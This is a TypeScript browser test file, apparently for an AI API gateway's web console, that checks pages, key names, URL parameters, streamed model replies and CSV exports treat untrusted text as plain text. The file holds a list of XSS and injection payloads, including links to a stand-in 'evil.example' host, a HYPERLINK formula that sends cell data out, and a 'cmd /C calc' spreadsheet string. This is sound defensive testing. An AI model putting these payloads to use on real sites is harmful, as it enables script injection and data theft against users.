import type { Page } from 'playwright-core';
import { type ExpectStatic, inject } from 'vitest';
import { PAGES, type Who } from '../screenshots/pages.ts';
import { watchPage } from '../screenshots/settled.ts';
import { tellChannels } from '../support/told.ts';
import { askOperator, callModel, consoleUrl, newMember, OPERATOR, test } from '../support/visitor.ts';

const RUN = 'window.__xss=1';

/** Texts that run something, lead elsewhere or break a page that takes them for anything but text. */
const TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x ONERROR=${RUN}//`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<details open ontoggle=${RUN}>open</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/y.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button>go</button></form>`,
  `"><img src=https://evil.example/p.png onload=${RUN}>`,
  `' onmouseover='${RUN}' x='`,
  `javascript:${RUN}`,
  ` java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[link](javascript:${RUN}) [two](data:text/html;base64,eA==) [three](vbscript:x)`,
  `![picture](https://evil.example/t.png "title") ![x](x" onerror="${RUN})`,
  `[ref]: javascript:${RUN}\n[ref] <javascript:${RUN}>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `=HYPERLINK("https://evil.example?"&A1,"x") @SUM(1+1)*cmd|' /C calc'!A0`,
  `\u202egnp.exe\u202c \u2066isolate \u200fmark \ufeff`,
  `line\u2028separator\u2029paragraph\u0085next \u0000 null`,
  `__proto__ constructor toString <!--><script>${RUN}</script>-->`,
];

/** Fields of answers that somebody else wrote: people, operators, vendors, models. */
const FOREIGN = new RegExp(
  `^(?:${[
    ...['channel', 'last_error'],
    ...['name', 'key_name', 'nickname', 'email', 'account', 'note', 'notes', 'reason', 'remark', 'comment'],
    ...['model', 'model_id', 'model_used', 'model_name', 'forward_model_id', 'vendor_name', 'policy_name'],
    ...['title', 'body', 'content', 'text', 'message', 'error_message', 'error', 'description', 'reply'],
    ...[
      'real_name',
      'company',
      'contact',
      'user_agent',
      'actor',
      'before',
      'after_text',
      'detail',
      'note_text',
    ],
  ].join('|')})$`,
);

/** Puts one of the texts, each time the next one, into every field that holds words of others. */
function poison(value: unknown, next: () => string): unknown {
  if (Array.isArray(value)) return value.map((each) => poison(each, next));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) =>
      typeof each === 'string' && each.includes('\nmodels:')
        ? [name, poisonFile(each, next)]
        : typeof each === 'string' && each !== '' && FOREIGN.test(name)
          ? [name, next()]
          : [name, poison(each, next)],
    ),
  );
}

/** The catalogue as a file: names in it are of the operator, its form is not. */
function poisonFile(text: string, next: () => string): string {
  return text.replaceAll(
    /^(\s*(?:- )?(?:name|note|description): ).*$/gm,
    (_, begin) => begin + JSON.stringify(next()),
  );
}

/** From now on everything that the platform answers has been written by somebody who means harm. */
async function poisonAnswers(page: Page): Promise<void> {
  let turn = 0;
  const next = (): string => TEXTS[turn++ % TEXTS.length] ?? '';
  await page.route('**/api/v1/**', async (route) => {
    if (route.request().method() !== 'GET' || route.request().url().includes('/live'))
      return route.continue();
    const response = await route.fetch().catch(() => undefined);
    if (response === undefined) return route.abort().catch(() => {});
    const type = response.headers()['content-type'] ?? '';
    if (!type.startsWith('application/json')) return route.fulfill({ response });
    const { data, ...rest } = (await response.json()) as { readonly data: unknown };
    // The envelope is the server's own; so is the address of the person, which decides who goes on here.
    const isOwn = /\/(?:profile|settings)$/.test(new URL(response.url()).pathname);
    await route.fulfill({ response, json: { ...rest, data: isOwn ? data : poison(data, next) } });
  });
}

/** What no text of others may become. */
const GROWN = `[...document.querySelectorAll(
    'iframe, object, embed, base, math, details[ontoggle], meta[http-equiv], script:not([src^="/"]), style, '
    + 'link[href*="evil"], img[src^="http"], img[src="x"], [onerror], [onload], [onfocus], form[action]')]
  .map((each) => each.outerHTML.slice(0, 200))
  .concat([...document.querySelectorAll('[href], [src]')]
    .map((each) => each.getAttribute('href') ?? each.getAttribute('src'))
    .filter((each) => /^\\s*(?:java\\s*script|vbscript|data:text)/i.test(each)))
  .concat(window.__xss === undefined ? [] : ['something ran'])`;

const grown = async (page: Page): Promise<readonly string[]> =>
  (await page.evaluate(GROWN)) as readonly string[];

/** The beginning of a text, as far as it can be compared with what a page shows. */
const beginning = (text: string): string => text.replaceAll(/\s+/g, ' ').trim().slice(0, 18);

async function shownTexts(page: Page): Promise<readonly string[]> {
  const shown = String(await page.evaluate('document.body.innerText')).replaceAll(/\s+/g, ' ');
  return TEXTS.filter((text) => shown.includes(beginning(text)));
}

async function walk(page: Page, paths: readonly string[], expect: ExpectStatic): Promise<number> {
  const untilSettled = watchPage(page);
  await poisonAnswers(page);
  await page.reload();
  const seen = new Set<string>();
  for (const path of paths) {
    // As a link does, without loading the program anew.
    await page.evaluate((to) => history.pushState({}, '', to), path);
    await untilSettled();
    await page.locator('h1').first().waitFor();
    expect(await grown(page), path).toEqual([]);
    for (const text of await shownTexts(page)) seen.add(text);
  }
  return seen.size;
}

function pathsOf(who: Who, account: number): readonly string[] {
  const own = PAGES.filter((each) => each.who === who && !each.path.endsWith('/first-run'));
  return [...new Set(own.map(({ path }) => path.replace('{account}', String(account))))];
}

test('what others wrote is text on every page of a user', async ({ expect, visitAs }) => {
  const member = await newMember();
  await callModel(await member.newKey());
  await tellChannels(member.ask, '/alert', inject('hooksUrl'));
  const { page } = await visitAs(member.email, '/announcements', { allow: /status of 40/ });
  expect(await walk(page, pathsOf('user', 0), expect)).toBeGreaterThan(10);
});

test('what others wrote is text on every page of an operator', async ({ expect, visitAs }) => {
  const member = await newMember();
  await callModel(await member.newKey());
  await member.ask('POST', '/feedback', { content: TEXTS[0], type: 'bug' });
  await tellChannels(askOperator, '/alerts', inject('hooksUrl'));
  const { page } = await visitAs(OPERATOR, '/operator/settings', { allow: /status of 40/ });
  expect(await walk(page, pathsOf('operator', member.id), expect)).toBeGreaterThan(10);
});

test('names of keys stay text in the list, in calls, in the address and in the exported file', async ({
  expect,
  visitAs,
}) => {
  const member = await newMember();
  const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '＝1+1'];
  const kept: string[] = [];
  for (const name of [...formulas, ...TEXTS]) {
    const { body } = await member.ask('POST', '/api-key', { name });
    if (body.code !== 0) continue;
    kept.push(name);
    if (formulas.includes(name) || name === TEXTS[2]) await callModel(String(body.data.api_key));
  }
  expect(kept.length).toBeGreaterThan(20);
  const { page } = await visitAs(member.email, '/keys', { allow: /status of 40/ });
  const untilSettled = watchPage(page);
  await page
    .getByText(TEXTS[2] ?? '')
    .first()
    .waitFor();
  expect((await shownTexts(page)).length).toBeGreaterThanOrEqual(
    TEXTS.filter((text) => kept.includes(text)).length,
  );
  expect(await grown(page)).toEqual([]);
  const all = encodeURIComponent(TEXTS.join(' '));
  for (const [at, text] of TEXTS.entries()) {
    const word = encodeURIComponent(text);
    const place = ['calls', 'usage', 'wallet', 'playground', 'keys', 'models', 'rankings'][at % 7];
    const names = ['q', 'model', 'models', 'key', 'status', 'from', 'sort', 'call', 'pool', 'open', 'client'];
    const search = names.map((name) => `${name}=${word}`).join('&');
    await page.evaluate((to) => history.pushState({}, '', to), `/${place}?${search}&x=${all}#${word}`);
    await untilSettled();
    expect(await grown(page), `${place} ${text}`).toEqual([]);
  }
  for (const path of ['/call-log/export', '/consumption-log/export', '/stats/export']) {
    const file = String((await member.ask('GET', path)).body.data);
    // A cell begins at the beginning of a line or behind a comma; amounts below zero are figures.
    expect(file, path).not.toMatch(/(?:^|,)"?[\s\ufeff]*(?:[=+@＝]|-(?!\d+(?:\.\d+)?(?:,|\r|$)))/m);
  }
  const file = String((await member.ask('GET', '/call-log/export')).body.data);
  for (const name of formulas.filter((each) => kept.includes(each))) expect(file).toContain(`'${name}`);
});

test('what a model answers is text, streamed and as Markdown, and what a vendor refuses too', async ({
  expect,
  visitAs,
}) => {
  const member = await newMember();
  const { page } = await visitAs(member.email, '/playground?model=gpt-5', { allow: /status of 4/ });
  await page.getByRole('button', { name: 'Chat', exact: true }).click();
  const answer = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'gpt-5' };
  const piece = (delta: object, end: string | null = null) =>
    `data: ${JSON.stringify({ ...answer, choices: [{ index: 0, delta, finish_reason: end }] })}\n\n`;
  const stream = [
    piece({ role: 'assistant', content: '' }),
    ...TEXTS.flatMap((text) => [...(text.match(/[\s\S]{1,9}/g) ?? []), '\n\n']).map((part) =>
      piece({ content: part }),
    ),
    ...[piece({ content: 'the end' }), piece({}, 'stop'), 'data: [DONE]\n\n'],
  ].join('');
  await page.route(`${consoleUrl}/v1/chat/completions`, (route) =>
    route.fulfill({ contentType: 'text/event-stream', body: stream }),
  );
  const send = async (text: string) => {
    await page.getByRole('textbox', { name: 'Message' }).fill(text);
    await page.getByRole('button', { name: /^Send/ }).click();
  };
  await send(TEXTS.join('\n\n'));
  await page.getByText('the end').waitFor();
  expect(await grown(page)).toEqual([]);
  expect((await shownTexts(page)).length).toBeGreaterThan(20);
  await page.unroute(`${consoleUrl}/v1/chat/completions`);
  const error = { message: TEXTS.join(' '), type: TEXTS[0], code: 40001, param: TEXTS[2] };
  await page.route(`${consoleUrl}/v1/chat/completions`, (route) =>
    route.fulfill({ status: 400, json: { error } }),
  );
  await send('Again');
  await page
    .getByText(TEXTS[5] ?? '')
    .last()
    .waitFor();
  expect(await grown(page)).toEqual([]);
});
